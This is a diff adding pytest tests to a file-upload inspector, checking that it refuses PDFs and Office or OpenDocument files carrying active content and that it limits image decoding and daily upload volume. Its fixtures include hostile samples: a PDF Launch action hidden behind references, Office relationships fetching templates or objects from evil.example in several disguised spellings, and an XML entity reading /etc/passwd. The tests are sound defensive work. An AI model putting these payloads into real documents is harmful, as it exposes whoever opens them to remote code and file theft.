@@ -4,7 +4,9 @@ import io
 import socket
 import struct
 import threading
+import time
 import zipfile
+from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 from PIL import Image
@@ -107,6 +109,20 @@ def test_a_pdf_with_active_content_is_refused(change):
 		inspect(pdf(change), "x.pdf")
 
 
+def _behind_references(writer):
+	"""The kind of an action, by way of two references."""
+	kind = writer._add_object(NameObject("/Launch"))
+	action = DictionaryObject({NameObject("/S"): kind, NameObject("/F"): TextStringObject("x")})
+	writer.pages[0][NameObject("/AA")] = writer._add_object(
+		DictionaryObject({NameObject("/O"): writer._add_object(action)})
+	)
+
+
+def test_active_content_does_not_hide_behind_references():
+	with pytest.raises(ActiveContent):
+		inspect(pdf(_behind_references), "x.pdf")
+
+
 def test_active_content_does_not_hide_behind_escaped_names():
 	content = pdf(_on_page("/Launch")).replace(b"/Launch", b"/L#61unch")
 	with pytest.raises((ActiveContent, DamagedFile)):
@@ -172,6 +188,123 @@ def test_office_files_pass_without_macros_only():
 	}.items():
 		with pytest.raises(ActiveContent):
 			inspect(word(**{entry: content}), "x.docx")
+
+
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def relations(row: str, prefix: str = "") -> str:
+	name = f"xmlns:{prefix.strip(':')}" if prefix else "xmlns"
+	return f'<{prefix}Relationships {name}="{PACKAGE}">{row}</{prefix}Relationships>'
+
+
+FETCHED = {
+	"single quotes": relations(
+		f"<Relationship Id='1' Type='{RELATIONS}/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/>"
+	),
+	"spaces": relations(
+		f'<Relationship Type = "{RELATIONS}/oleObject" Target = "http://evil.example/x" TargetMode\n=\n"External" />'
+	),
+	"a prefix": relations(
+		f'<r:Relationship Type="{RELATIONS}/image" Target="http://evil.example/x" TargetMode="External"/>',
+		"r:",
+	),
+	"references": relations(
+		f'<Relationship Type="{RELATIONS}/image" Target="http://evil.example/x" TargetMode="&#69;xternal"/>'
+	),
+	"a target like a link": relations(
+		f'<Relationship Type="{RELATIONS}/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"/>'
+	),
+	"a link to a share": relations(
+		f'<Relationship Type="{RELATIONS}/hyperlink" Target="file://evil.example/share" TargetMode="External"/>'
+	),
+	"no mode": relations(f'<Relationship Type="{RELATIONS}/image" Target="\\\\evil.example\\share\\x"/>'),
+	"an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + relations("&e;"),
+}
+
+
+@pytest.mark.parametrize("hidden", FETCHED)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize("entry", ["word/_rels/settings.xml.rels", "word/_rels/document.xml.RELS"])
+def test_no_office_file_fetches_anything_however_it_is_written(hidden, encoding, entry):
+	with pytest.raises(ActiveContent):
+		inspect(word(**{entry: FETCHED[hidden].encode(encoding)}), "x.docx")
+
+
+def test_links_in_an_office_file_may_stay():
+	for target in ("https://dichvucong.gov.vn", "mailto:a@example.com"):
+		row = f'<Relationship Id="1" Type="{RELATIONS}/hyperlink" Target="{target}" TargetMode="External"/>'
+		row += f'<Relationship Id="2" Type="{RELATIONS}/image" Target="media/image1.png"/>'
+		content = word(**{"word/_rels/document.xml.rels": relations(row).encode()})
+		assert inspect(content, "x.docx").extension == "docx"
+
+
+def test_relations_that_are_no_xml_are_damaged():
+	with pytest.raises(DamagedFile):
+		inspect(word(**{"word/_rels/document.xml.rels": b"<Relationships"}), "x.docx")
+
+
+@pytest.mark.parametrize(
+	"inside",
+	[
+		'<draw:image xlink:href="http://evil.example/x.png"/>',
+		"<draw:object xlink:href='//evil.example/x'/>",
+		'<script:event-listener script:event-name="dom:load"/>',
+	],
+)
+def test_an_open_document_fetches_and_runs_nothing(inside):
+	spaces = "".join(f' xmlns:{name}="urn:{name}"' for name in ("draw", "xlink", "script", "text"))
+	body = '<x{0}><text:a xlink:href="https://example.com">x</text:a>{1}</x>'
+	kind = b"application/vnd.oasis.opendocument.text"
+	assert inspect(archive(mimetype=kind, **{"content.xml": body.format(spaces, "").encode()}), "x")
+	with pytest.raises(ActiveContent):
+		inspect(archive(mimetype=kind, **{"content.xml": body.format(spaces, inside).encode()}), "x")
+
+
+def test_two_pictures_are_not_unpacked_at_once(monkeypatch):
+	running, most = [], []
+	load = Image.Image.thumbnail
+
+	def slow(self, *given, **options):
+		running.append(1)
+		most.append(len(running))
+		time.sleep(0.05)
+		load(self, *given, **options)
+		running.pop()
+
+	monkeypatch.setattr(Image.Image, "thumbnail", slow)
+	with ThreadPoolExecutor(4) as at_once:
+		assert all(at_once.map(lambda _each: inspect(picture(), "x.jpg"), range(4)))
+	assert max(most) == 1
+
+
+def test_whoever_waits_too_long_for_a_picture_is_told_so(monkeypatch):
+	monkeypatch.setattr(uploads, "SECONDS_TO_WAIT", 0.05)
+	with uploads.DECODING, pytest.raises(uploads.TooBusy):
+		inspect(picture(), "x.jpg")
+
+
+def test_a_turned_picture_is_set_upright():
+	exif = Image.Exif()
+	exif[0x0112] = 6
+	accepted = inspect(picture(exif=exif), "x.jpg")
+	assert Image.open(io.BytesIO(accepted.content)).size == (30, 40)
+
+
+def test_an_account_sends_so_many_bytes_a_day(connection, monkeypatch):
+	monkeypatch.setattr(connection.local, "request", object(), raising=False)
+	monkeypatch.setattr(uploads, "DAILY_MEGABYTES", 1)
+	user = f"{connection.generate_hash(length=8)}@example.com"
+	monkeypatch.setattr(connection.session, "user", user)
+	monkeypatch.setattr(uploads, "audience_of", lambda _user: "citizen")
+	content = pdf(lambda writer: writer.add_metadata({"/Keywords": "x" * 300_000}))
+	for _each in range(3):
+		uploads.accept(content, "x.pdf")
+	with pytest.raises(uploads.QuotaUsedUp):
+		uploads.accept(content, "x.pdf")
+	monkeypatch.setattr(uploads, "audience_of", lambda _user: "staff")
+	uploads.accept(content, "x.pdf")
 
 
 def test_too_much_is_refused(monkeypatch):
